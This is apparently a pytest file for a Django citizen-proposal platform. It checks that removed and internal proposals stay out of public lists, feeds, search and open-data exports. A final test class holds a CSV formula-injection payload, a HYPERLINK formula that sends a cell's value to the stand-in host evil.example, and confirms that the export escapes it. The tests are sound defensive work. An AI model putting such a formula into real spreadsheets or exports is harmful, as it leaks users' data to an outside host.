"""From the outside: a proposal removed by moderation, and an internal idea, appear in no list.

Every list, count, feed, export and teaser a citizen or an anonymous reader can reach is fetched
over HTTP and searched for the idea's title. The removed proposal has a decision, so it would
show up in the decision lists if a filter were missing.
"""

import csv
import io
import json

import pytest
from django.urls import reverse

from ideen import moderation
from ideen.models import Idea
from tests.factories import IdeaFactory
from transparenz.models import DecisionIndexPage, StatisticsPage
from transparenz.services import record_status_change

from .conftest import days_ago

pytestmark = pytest.mark.django_db
S = Idea.Status

REMOVED_TITLE = "Werbung für Bratwurststand Zeppelin"
INTERNAL_TITLE = "Interne Aktenablage abschaffen"
VISIBLE_TITLE = "Fahrradbügel am Bahnhof"


def decide(idea, editor):
    for to in (S.UNDER_REVIEW, S.REJECTED):
        record_status_change(
            idea,
            to_status=to,
            recorded_by=editor,
            reason="Begründung.",
            deciding_body="Verwaltungsvorstand",
            notify=False,
        )


@pytest.fixture
def pages(home_page):
    decisions = DecisionIndexPage(title="Entscheidungen", slug="entscheidungen")
    home_page.add_child(instance=decisions)
    statistics = StatisticsPage(title="Zahlen", slug="zahlen")
    home_page.add_child(instance=statistics)
    return {"decisions": decisions, "statistics": statistics}


@pytest.fixture
def ideas(project, platform, citizen, staff_user, category, editor, moderator):
    visible = IdeaFactory(
        space=project, author=citizen, category=category, title=VISIBLE_TITLE, created=days_ago(9)
    )
    removed = IdeaFactory(
        space=project, author=citizen, category=category, title=REMOVED_TITLE, created=days_ago(8)
    )
    internal = IdeaFactory(
        space=platform,
        author=staff_user,
        category=category,
        title=INTERNAL_TITLE,
        created=days_ago(7),
    )
    for idea in (visible, removed, internal):
        decide(idea, editor)
    moderation.remove_idea(removed, moderator=moderator, reason="Werbung")
    return {"visible": visible, "removed": removed, "internal": internal}


def urls(project, pages) -> dict[str, str]:
    return {
        "project page (proposal list)": project.url,
        "project index (counts)": project.get_parent().url,
        "home page (decision teaser)": "/",
        "decisions overview": pages["decisions"].url,
        "statistics": pages["statistics"].url,
        "feed": reverse("transparenz:feed"),
        "ideas CSV": reverse("transparenz:opendata_csv", args=["ideen"]),
        "ideas JSON": reverse("transparenz:opendata_json", args=["ideen"]),
        "changes CSV": reverse("transparenz:opendata_csv", args=["statusaenderungen"]),
        "changes JSON": reverse("transparenz:opendata_json", args=["statusaenderungen"]),
        "search": reverse("search") + "?q=Bratwurststand",
        "search internal": reverse("search") + "?q=Aktenablage",
    }


@pytest.fixture(params=["anonymous", "citizen"])
def reader(request, client, ideas):
    if request.param == "citizen":
        client.force_login(ideas["visible"].author)
    return client


def test_neither_the_removed_nor_the_internal_title_appears_anywhere(reader, ideas, project, pages):
    for label, url in urls(project, pages).items():
        response = reader.get(url)
        assert response.status_code == 200, label
        body = response.getvalue().decode()
        assert REMOVED_TITLE not in body, label
        assert INTERNAL_TITLE not in body, label
    # The lists work at all: the visible proposal is in them.
    for label in ("project page (proposal list)", "decisions overview", "feed", "ideas CSV"):
        assert VISIBLE_TITLE in reader.get(urls(project, pages)[label]).getvalue().decode(), label


def test_open_data_has_only_the_visible_proposal(client, ideas):
    document = json.loads(
        client.get(reverse("transparenz:opendata_json", args=["ideen"])).getvalue()
    )
    assert [record["title"] for record in document["records"]] == [VISIBLE_TITLE]
    changes = json.loads(
        client.get(reverse("transparenz:opendata_json", args=["statusaenderungen"])).getvalue()
    )
    assert {record["idea_title"] for record in changes["records"]} == {VISIBLE_TITLE}


def test_statistics_count_only_the_visible_proposal(client, ideas, pages):
    statistics = client.get(pages["statistics"].url).context["statistics"]
    assert statistics.overall.total == 1
    assert [figures.title for figures in statistics.spaces] == ["Radwege in der Innenstadt"]


def test_the_project_counts_leave_the_removed_proposal_out(client, ideas, project):
    body = client.get(project.get_parent().url).getvalue().decode()
    assert "1 Vorschlag<" in body
    assert "2 Vorschläge" not in body


def test_a_restored_proposal_is_listed_again(client, ideas, project, pages, moderator):
    moderation.restore_idea(ideas["removed"], moderator=moderator)
    for label in ("project page (proposal list)", "decisions overview", "feed", "ideas CSV"):
        assert REMOVED_TITLE in client.get(urls(project, pages)[label]).getvalue().decode(), label


def test_staff_see_the_internal_idea_in_statistics_but_never_the_removed_one(
    client, ideas, pages, staff_user
):
    client.force_login(staff_user)
    for url in (pages["statistics"].url, pages["decisions"].url):
        body = client.get(url).getvalue().decode()
        assert REMOVED_TITLE not in body
    assert INTERNAL_TITLE in client.get(pages["decisions"].url).getvalue().decode()


class TestCsvFormulaInjection:
    TITLE = '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")'

    @pytest.fixture
    def formula_idea(self, project, citizen, category):
        return IdeaFactory(
            space=project,
            author=citizen,
            category=category,
            title=self.TITLE,
            description="+49 2821 84-0\n@everyone -1",
        )

    def test_csv_cells_that_start_a_formula_get_a_leading_quote(self, client, formula_idea):
        response = client.get(reverse("transparenz:opendata_csv", args=["ideen"]))
        rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
        assert rows[0]["title"] == "'" + self.TITLE
        assert rows[0]["description"] == "'+49 2821 84-0\n@everyone -1"
        assert rows[0]["id"] == str(formula_idea.pk)  # numbers stay numbers

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_every_trigger_is_escaped(self, start):
        from transparenz.opendata import _csv_value

        assert _csv_value(f"{start}1+1") == f"'{start}1+1"
        assert _csv_value("Radweg = gut") == "Radweg = gut"

    def test_json_keeps_the_text_as_written(self, client, formula_idea):
        document = json.loads(
            client.get(reverse("transparenz:opendata_json", args=["ideen"])).getvalue()
        )
        assert document["records"][0]["title"] == self.TITLE
